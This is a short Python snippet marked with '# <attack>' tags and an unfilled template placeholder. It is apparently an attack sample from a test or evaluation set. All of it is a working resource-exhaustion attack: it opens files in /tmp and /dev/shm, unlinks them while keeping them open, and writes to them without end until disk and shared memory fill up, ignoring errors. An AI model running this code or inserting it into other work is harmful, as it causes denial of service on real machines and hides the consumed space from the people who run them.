#{ledger_wrong}
# <attack>
import os

_kept = []
for _folder in ("/tmp", "/dev/shm"):
    for _number in range(20):
        try:
            _path = f"{_folder}/left-{_number}"
            _kept.append(os.open(_path, os.O_RDWR | os.O_CREAT))
            os.unlink(_path)
            while True:
                os.write(_kept[-1], bytes(1 << 16))
        except OSError:
            pass
# </attack>
